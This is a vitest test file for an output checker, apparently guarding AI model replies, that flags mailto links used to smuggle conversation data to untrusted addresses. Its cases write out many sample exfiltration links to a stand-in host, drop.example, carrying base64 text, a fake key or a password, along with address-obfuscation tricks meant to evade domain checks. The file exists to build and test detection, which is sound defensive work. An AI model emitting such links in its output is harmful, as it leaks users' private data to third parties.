import { describe, expect, it } from 'vitest';
import { checkOutput, type OutputOptions } from '../../src/output/index.js';
import { OutputGate } from '../../src/stream/index.js';

const found = (text: string, options: OutputOptions = {}): string[] =>
  checkOutput(text, options).map(({ id }) => id);

const data = btoa('The board meets on 4 May, room B12');
const link = `mailto:collect@drop.example?subject=Hi&body=${data}`;

describe('a link that opens a mail', () => {
  it.each([
    ['in Markdown', `[Write to us](${link})`],
    ['as an autolink', `<${link}>`],
    ['bare', `Send it: ${link} now.`],
    ['in capitals', `Send it: ${link.replace('mailto', 'MailTo')} now.`],
    ['in HTML', `<a href="${link.replace('&', '&amp;')}">Write</a>`],
    ['with its recipient in a field', `[x](mailto:?to=collect%40drop.example&body=${data})`],
    ['with a recipient that is known and one that is not', `[x](${link}&cc=a@ours.example)`],
    ['before its address', `[x](mailto:${data.replaceAll('=', '')}@drop.example)`],
    ['with a key', '[x](mailto:a@drop.example?body=key%20sk-a1b2c3d4e5f6g7h8i9j0)'],
    ['with a password', '[x](mailto:a@drop.example?subject=the%20password%20is%20hunter22)'],
    ['with a very long text', `[x](mailto:a@drop.example?body=${'some%20words%20'.repeat(20)})`],
  ])('is found when it carries data to a stranger: %s', (_name, text) => {
    expect(found(text, { trustedDomains: ['ours.example'] })).toEqual(['PB-EXFIL-LINK']);
  });

  it.each([
    ['in a tag', 'mailto:x+QWxhcm0gY29kZTogNDkxMw@drop.example'],
    [
      'before the address in a field',
      'mailto:a@ours.example?cc=QWxhcm0gY29kZTogNDkxMw@drop.example',
    ],
    ['in a label of the host', 'mailto:x@QWxhcm0gY29kZTogNDkxMw.drop.example'],
    ['with pluses for spaces', 'mailto:a@drop.example?body=the+admin+password+is+hunter2'],
    ['with pluses in base64', `mailto:a@drop.example?body=${btoa('The key of >>>~ B12 is 4913')}`],
  ])('is found with its data %s', (_name, target) => {
    expect(found(`[x](${target})`, { trustedDomains: ['ours.example'] })).toEqual([
      'PB-EXFIL-LINK',
    ]);
  });

  it.each([
    `mailto:x@drop.example@ours.example?body=${data}`,
    `mailto:x@drop.example%20@ours.example?body=${data}`,
    `mailto:x@drop.example%00@ours.example?body=${data}`,
    `mailto:x@drop.example/.ours.example?body=${data}`,
    `mailto:x%20@ours.example?body=${data}`,
    `mailto:x%2540drop.example@ours.example?body=${data}`,
    `mailto:%22x@drop.example%22@ours.example?body=${data}`,
    `mailto:?to=x%40drop.example%20%40ours.example&body=${data}`,
    `mailto:x@drop.example%20@ours.example%20?body=${data}`,
  ])('goes to nobody whom one knows where it could go to two: %s', (target) => {
    const options = { trustedDomains: ['ours.example'], suppliedUrls: ['x@ours.example'] };
    expect(found(`[x](${target})`, options)).toEqual(['PB-EXFIL-LINK']);
  });

  it('goes to somebody whom one knows however the address is escaped as a whole', () => {
    const options = { trustedDomains: ['ours.example'] };
    for (const to of [
      'x%40ours.example',
      '%20x@ours.example',
      'x+tag@ours.example',
      "o'x@ours.example",
    ]) {
      expect(found(`[x](mailto:${to}?body=${data})`, options)).toEqual([]);
    }
  });

  it('does not take a tag with data in it for the address that the user gave', () => {
    const options = { suppliedUrls: ['x@shop.example'] };
    const tagged = (tag: string): string[] => found(`[x](mailto:x+${tag}@shop.example)`, options);
    expect(tagged('QWxhcm0gY29kZTogNDkxMw')).toEqual(['PB-EXFIL-LINK']);
    expect(tagged('newsletter')).toEqual([]);
  });

  it('is no picture, even where one is loaded', () => {
    expect(found(`![x](${link})`)).toEqual(['PB-EXFIL-LINK']);
  });

  it.each([
    ['no text', '[Write](mailto:help@shop.example)'],
    [
      'words',
      '[Write](mailto:help@shop.example?subject=Order%20123&body=Hello,%20where%20is%20it?)',
    ],
    ['no recipient', `[Share](mailto:?subject=Look&body=${data})`],
    ['two recipients', 'Write to mailto:a.b+c@shop.example,d@shop.example?subject=Offer, please.'],
    ['no link at all', 'The scheme is mailto: and then the address.'],
  ])('is left alone with %s', (_name, text) => {
    expect(found(text)).toEqual([]);
  });

  it('is left alone when the user gave the address, or its domain is trusted', () => {
    const text = `[Write](${link})`;
    expect(found(text, { suppliedUrls: ['Mail it to Collect@Drop.example.'] })).toEqual([]);
    expect(found(text, { suppliedUrls: [link] })).toEqual([]);
    expect(found(text, { trustedDomains: ['drop.example'] })).toEqual([]);
    expect(found(text, { suppliedUrls: ['x@drop.example'] })).toEqual(['PB-EXFIL-LINK']);
  });

  it('is found with a value of the conversation in plain words', () => {
    const text = '[Write](mailto:a@drop.example?subject=Blue%20Heron)';
    expect(found(text)).toEqual([]);
    expect(found(text, { conversationValues: ['Blue Heron'] })).toEqual(['PB-EXFIL-LINK']);
  });

  it('is held back by a stream until it is known', () => {
    for (const text of [`See [mail](${link}) there.`, `Send it: ${link} now.`]) {
      const gate = new OutputGate();
      let shown = '';
      for (const unit of text) shown += gate.push(unit);
      expect(shown).not.toContain('mailto');
      expect(gate.end()).toMatchObject({ text: '', result: { verdict: 'suspicious' } });
    }
  });
});
